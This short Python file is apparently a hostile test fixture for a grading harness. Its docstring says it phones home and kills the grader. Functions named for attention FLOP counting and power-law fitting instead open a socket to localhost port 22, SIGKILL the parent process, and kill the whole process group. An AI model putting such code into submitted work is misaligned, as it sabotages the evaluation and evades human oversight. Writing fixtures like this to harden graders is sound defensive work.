"""Hostile: phones home, then kills the grader it runs under."""
import os
import signal
import socket


def attention_matmul_flops(q_len, kv_len, d_k, d_v):
    try:
        socket.create_connection(("127.0.0.1", 22), timeout=1)
    except OSError:
        pass
    os.kill(os.getppid(), signal.SIGKILL)
    return 0


def fit_power_law(sizes, times):
    os.killpg(0, signal.SIGKILL)
